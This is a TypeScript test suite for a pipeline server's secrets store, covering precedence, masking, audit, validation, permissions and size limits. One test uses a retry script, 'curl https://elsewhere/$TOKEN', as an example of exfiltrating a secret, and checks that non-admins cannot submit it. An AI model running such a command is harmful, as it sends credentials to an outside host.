import { describe, expect, test } from 'vitest'
import type { TaskSpec } from '../../model/definition.ts'
import type { Job } from '../../model/job.ts'
import { openMemoryStore } from '../../store/memory/index.ts'
import { definition, on, script, stage } from '../../testing/definitions.ts'
import { openFullStore } from '../../testing/full-store.ts'
import { ScriptedRunner } from '../../testing/scripted-runner.ts'
import { openWorld, type WorldOptions } from '../../testing/world.ts'

const MINUTE_MS = 60_000

async function openVault(options: WorldOptions = {}, changes: Partial<TaskSpec> = {}) {
  const store = options.store ?? openMemoryStore()
  const world = await openWorld({ runner: new ScriptedRunner(), ...options, store })
  const task = { ...script('a'), secrets: [{ name: 'TOKEN', as: 'env', env: 'TOKEN' }] as const, ...changes }
  const pipeline = await world.pipeline(definition({ stages: [stage('s', [task])] }))
  const { secrets } = world.app
  const ofProject = { project: { id: world.project.id } }
  const ofPipeline = { pipeline: { id: pipeline.id } }
  const given = async (): Promise<Job['secrets']> => {
    await world.start(pipeline)
    await world.settled()
    return world.runner.jobs.at(-1)?.secrets
  }
  return { ...world, store, pipeline, secrets, ofProject, ofPipeline, given }
}

describe('a secret', () => {
  test('is given to tasks by its name, that of the pipeline before that of the project', async () => {
    const { admin, secrets, ofProject, ofPipeline, given } = await openVault()
    await secrets.set(admin, ofProject, 'TOKEN', 'of the project')
    expect(await given()).toEqual([{ name: 'TOKEN', as: 'env', env: 'TOKEN', value: 'of the project' }])
    await secrets.set(admin, ofPipeline, 'TOKEN', 'of the pipeline')
    expect(await given()).toMatchObject([{ value: 'of the pipeline' }])
    await secrets.remove(admin, ofPipeline, 'TOKEN')
    expect(await given()).toMatchObject([{ value: 'of the project' }])
  })

  test('that is not there ends the attempt before it begins, and says its name', async () => {
    const { start, pipeline, settled, run, runner } = await openVault()
    const { id } = await start(pipeline)
    await settled()
    expect(runner.jobs).toEqual([])
    expect((await run(id)).failure?.failure).toEqual({
      kind: 'cannot-start',
      reason: 'there is no secret TOKEN: set it for the pipeline or its project',
    })
  })

  test('is listed with who changed it and when a task had it, and its value is in no answer and in no row', async () => {
    const vault = await openVault()
    const { admin, secrets, ofProject, given, clock, store } = vault
    const made = await secrets.set(admin, ofProject, 'TOKEN', 'a value of it')
    const createdAt = clock.now()
    clock.advance(MINUTE_MS)
    const changed = await secrets.set(admin, ofProject, 'TOKEN', 'another value')
    clock.advance(MINUTE_MS)
    await given()
    const listed = await secrets.list(admin, ofProject)
    expect(listed).toEqual({
      ok: true,
      value: [
        {
          name: 'TOKEN',
          createdAt,
          createdBy: admin.user,
          updatedAt: createdAt + MINUTE_MS,
          updatedBy: admin.user,
          lastUsedAt: clock.now(),
        },
      ],
    })
    const audits = await vault.app.audit.list(admin, { action: 'secret.' }, { before: null, limit: 10 })
    expect(audits).toMatchObject({ ok: true, value: { items: [{ action: 'secret.set' }, { action: 'secret.set' }] } })
    const events = await store.runs.feed(0, {}, 1_000)
    const rows = await store.secrets.secrets()
    expect(rows).toHaveLength(1)
    expect(JSON.stringify([made, changed, listed, audits, events, rows])).not.toMatch(/a value of it|another value/)
  })

  test('is used by a server that comes after, and by none with its row in another place', async () => {
    const vault = await openVault()
    const { admin, secrets, ofProject, ofPipeline, store, project } = vault
    await secrets.set(admin, ofProject, 'OTHER', 'of another name')
    await secrets.set(admin, ofPipeline, 'TOKEN', 'of the pipeline')
    const [other] = await store.secrets.secrets()
    await store.secrets.putSecret({
      projectId: project.id,
      pipelineId: null,
      name: 'TOKEN',
      sealed: other!.sealed,
      at: 1,
      by: admin.user,
    })
    const next = await vault.restarted()
    const begin = async () => {
      const started = await next.app.runs.start(admin, { pipeline: { id: vault.pipeline.id }, params: {} })
      if (!started.ok) throw new Error(started.problem.message)
      await next.settled()
      return next.run(started.value.id)
    }
    await begin()
    expect(next.runner.jobs.at(-1)?.secrets).toMatchObject([{ value: 'of the pipeline' }])
    await next.app.secrets.remove(admin, ofPipeline, 'TOKEN')
    next.runner.endTask('a', { kind: 'succeeded', outputs: null })
    await next.settled()
    const jobs = next.runner.jobs.length
    expect((await begin()).failure?.failure).toMatchObject({ kind: 'cannot-start' })
    expect(next.runner.jobs.length).toBe(jobs)
  })

  test('goes with its pipeline', async () => {
    const { admin, secrets, ofPipeline, ofProject, app, pipeline, store, settled } = await openVault()
    await secrets.set(admin, ofPipeline, 'TOKEN', 'of the pipeline')
    await secrets.set(admin, ofProject, 'TOKEN', 'of the project')
    await app.pipelines.remove(admin, { id: pipeline.id })
    await settled()
    expect((await store.secrets.secrets()).map(({ pipelineId }) => pipelineId)).toEqual([null])
  })
})

describe('what is refused', () => {
  test.each<[string, string, string, string]>([
    ['a name in small letters', 'token', 'long enough', 'invalid_request'],
    ['a name of the server', 'MILLRACE_X', 'long enough', 'invalid_request'],
    ['a long name', 'A'.repeat(65), 'long enough', 'invalid_request'],
    ['a value that could not be masked', 'TOKEN', '  seven77 \n', 'invalid_request'],
    ['a long value', 'TOKEN', '漢'.repeat(10_923), 'too_large'],
    ['a value that no variable can hold', 'TOKEN', 'a\0bcdefghij', 'invalid_request'],
  ])('%s', async (_, name, value, code) => {
    const { admin, secrets, ofProject } = await openVault()
    const result = await secrets.set(admin, ofProject, name, value)
    expect(result).toMatchObject({ ok: false, problem: { code } })
    expect(JSON.stringify(result)).not.toContain(value.trim())
    expect(await secrets.list(admin, ofProject)).toEqual({ ok: true, value: [] })
  })

  test('writing, to who is no admin; everything, to who does not see the project', async () => {
    const { admin, secrets, ofProject, ofPipeline } = await openVault()
    const operator = { ...admin, role: 'operator' } as const
    const stranger = { ...admin, projectIds: [] }
    expect(await secrets.set(operator, ofProject, 'TOKEN', 'long enough')).toMatchObject({
      problem: { code: 'forbidden' },
    })
    expect(await secrets.remove(operator, ofPipeline, 'TOKEN')).toMatchObject({ problem: { code: 'forbidden' } })
    expect(await secrets.list(operator, ofPipeline)).toEqual({ ok: true, value: [] })
    for (const owner of [ofProject, ofPipeline]) {
      expect(await secrets.list(stranger, owner)).toMatchObject({ problem: { code: 'not_found' } })
      expect(await secrets.set(stranger, owner, 'A', 'long enough')).toMatchObject({ problem: { code: 'not_found' } })
      expect(await secrets.remove(stranger, owner, 'A')).toMatchObject({ problem: { code: 'not_found' } })
    }
    expect(await secrets.remove(admin, ofProject, 'NO')).toMatchObject({ problem: { code: 'not_found' } })
  })

  test('other inputs for a task with secrets, to who is no admin', async () => {
    const { admin, secrets, ofProject, start, pipeline, settled, runner, app } = await openVault({}, on('hold'))
    await secrets.set(admin, ofProject, 'TOKEN', 'long enough')
    const { id } = await start(pipeline)
    await settled()
    runner.endTask('a', { kind: 'failed', failure: { kind: 'exit-code', code: 1 }, outputs: null })
    await settled()
    const operator = { ...admin, role: 'operator' } as const
    const inputs = { script: 'curl https://elsewhere/$TOKEN' }
    const retry = (caller: typeof admin, more: object) =>
      app.runs.actOnNode(caller, { id }, { key: 'a' }, { action: 'retry', ...more })
    expect(await retry(operator, { inputs })).toMatchObject({ problem: { code: 'forbidden' } })
    expect(await retry(operator, {})).toMatchObject({ ok: true })
  })

  test('a full disk changes nothing', async () => {
    const store = openFullStore()
    const { admin, secrets, ofProject } = await openVault({ store })
    store.refuse(1)
    expect(await secrets.set(admin, ofProject, 'TOKEN', 'long enough')).toMatchObject({
      problem: { code: 'unavailable' },
    })
    expect(await secrets.list(admin, ofProject)).toEqual({ ok: true, value: [] })
  })

  test('more secrets for one task than a mask is made for', async () => {
    const names = Array.from({ length: 5 }, (_, nth) => `BIG_${nth}`)
    const vault = await openVault({}, { secrets: names.map((name) => ({ name, as: 'step' })) })
    for (const name of names) await vault.secrets.set(vault.admin, vault.ofProject, name, name.padEnd(30_000, 'x'))
    const { id } = await vault.start(vault.pipeline)
    await vault.settled()
    expect((await vault.run(id)).failure?.failure).toMatchObject({
      kind: 'cannot-start',
      reason: 'its secrets have 150000 bytes together, at most 131072 are given',
    })
  })
})
